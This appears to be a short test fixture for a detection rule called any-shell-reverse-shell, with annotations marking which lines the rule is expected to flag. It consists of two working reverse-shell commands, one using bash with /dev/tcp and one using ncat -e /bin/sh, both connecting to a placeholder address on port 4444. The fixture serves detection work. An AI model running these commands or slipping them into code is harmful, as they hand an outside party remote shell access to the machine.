#!/bin/bash
# ruleid: any-shell-reverse-shell
bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
# ruleid: any-shell-reverse-shell
ncat 198.51.100.7 4444 -e /bin/sh
